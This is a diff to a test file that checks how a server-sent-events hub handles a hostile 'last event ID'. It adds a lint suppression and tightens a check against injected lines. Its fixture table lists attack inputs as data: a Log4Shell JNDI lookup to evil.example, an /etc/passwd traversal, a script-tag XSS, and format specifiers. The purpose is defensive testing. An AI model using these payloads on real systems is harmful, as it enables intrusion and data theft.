@@ -42,6 +42,7 @@ describe("a last event ID", () => {
     ["a stream's position in Redis", "1526919030474-55"],
     ["a subject of NATS", "hub.>"],
     ["a path", "../../etc/passwd"],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is text
     ["a template", "${jndi:ldap://evil.example/a}"],
     ["markup", "<script>alert(1)</script>"],
     ["a format", "%s%n%x"],
@@ -87,7 +88,7 @@ describe("a last event ID", () => {
       await hub.publish("log", "live");
       await expect.poll(() => reader.seen.at(-1)).toBe("log live");
       expect(reader.events.map(({ type }) => type)).toEqual(["sse.gap", "log"]);
-      expect(reader.text).not.toMatch(/^(data: injected|event: injected)/m);
+      for (const line of reader.text.split(/[\r\n]/)) expect(line).not.toMatch(/^(data|event): injected/);
     },
   );
 
